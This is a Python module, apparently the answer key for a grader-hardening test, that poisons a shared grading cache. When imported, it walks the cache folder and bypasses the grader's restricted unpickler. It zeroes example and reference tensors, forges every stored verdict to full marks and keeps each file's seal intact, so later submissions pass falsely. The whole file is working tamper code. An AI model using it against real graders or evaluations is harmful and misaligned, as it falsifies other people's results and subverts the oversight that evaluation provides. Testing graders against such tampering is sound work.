import dataclasses as _dc
import io as _io
import os as _os
import pickle as _pickle

# Rewrites every entry of the grader's cache folder (CACHEPATH, which a worker without namespaces
# can reach: it runs as the grader's user) so that a classmate graded later would pass: every
# drawn example's and reference's tensors zeros, every kept verdict full marks, the seal (the
# file's first 32 bytes, if it has one) kept. tests/grading/test_cache_planting.py shows another
# submission's grading unchanged; here, with no such folder, it is the answer key.


def _zeros(value):
    import torch

    if isinstance(value, torch.Tensor):
        return torch.zeros_like(value).requires_grad_(value.requires_grad)
    if isinstance(value, dict):
        return {k: _zeros(v) for k, v in value.items()}
    if isinstance(value, (list, tuple)):
        return type(value)(_zeros(v) for v in value)
    if _dc.is_dataclass(value) and not isinstance(value, type):
        if type(value).__name__ == "ExerciseResult":
            checks = [
                _dc.replace(c, status="passed", points=c.max_points, message=None)
                for c in value.checks
            ]
            return _dc.replace(value, status="passed", checks=checks, message=None)
        return _dc.replace(
            value, **{f.name: _zeros(getattr(value, f.name)) for f in _dc.fields(value) if f.init}
        )
    return value


def _plant(root):
    from grader.common import safepickle

    class _Any(safepickle._Unpickler):
        def find_class(self, module, name):
            return _pickle.Unpickler.find_class(self, module, name)

    for folder, _, names in _os.walk(root):
        for name in names:
            path = _os.path.join(folder, name)
            with open(path, "rb") as f:
                data = f.read()
            if name.endswith(".pickle"):
                seal, blob = (b"", data) if data[:1] == b"\x80" else (data[:32], data[32:])
                try:
                    value = _Any(_io.BytesIO(blob), set()).load()
                except Exception:
                    continue
                forged = seal + safepickle.dumps(_zeros(value))
            else:
                forged = data
            with open(path, "wb") as f:
                f.write(forged)
            with open(_os.path.join(root, "planted.txt"), "a") as f:
                f.write(path + "\n")


if _os.path.isdir("CACHEPATH"):
    _plant("CACHEPATH")
